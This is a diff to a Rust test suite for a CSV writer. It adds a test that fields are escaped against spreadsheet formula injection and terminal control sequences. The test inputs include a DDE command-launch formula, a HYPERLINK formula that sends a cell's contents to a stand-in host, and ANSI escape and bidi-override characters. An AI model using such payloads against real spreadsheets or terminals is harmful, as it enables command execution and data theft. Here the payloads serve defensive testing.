@@ -53,8 +53,37 @@ fn from_one_column_follow_head_cell_order_and_csv() {
         "number,service,operation,requests,why,length\r\n\
          6,b,GET /y,3,\"a, \"\"b\"\"\",6\r\n\
          2000,a,GET /y,1000,,0\r\n\
-         6,c,GET /x,3,\"line\nbreak\",10\r\n"
+         6,c,GET /x,3,line break,10\r\n"
     );
+}
+
+#[test]
+fn no_field_of_a_file_is_a_formula_or_steers_a_terminal() {
+    let written = |field: &str| {
+        let mut line = String::new();
+        write_line(&[field.to_owned()], &mut line);
+        line.trim_end_matches("\r\n").to_owned()
+    };
+    for (field, line) in [
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("=HYPERLINK(\"http://e/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\""),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1+1", "' =1+1"),
+        ("\r\n=1+1", "'  =1+1"),
+        ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
+        ("\u{feff}=1", "' =1"),
+        ("a\u{1b}[31m\u{9b}2J\u{7}\u{202e}b\nc", "a [31m 2J  b c"),
+        // Numbers stay numbers, and what merely contains a mark is as it was.
+        ("-12.5", "-12.5"),
+        ("+0.5", "+0.5"),
+        ("-1e-7", "-1e-7"),
+        ("a=b", "a=b"),
+        ("GET /a-b", "GET /a-b"),
+    ] {
+        assert_eq!(written(field), line, "{field:?}");
+    }
 }
 
 #[test]
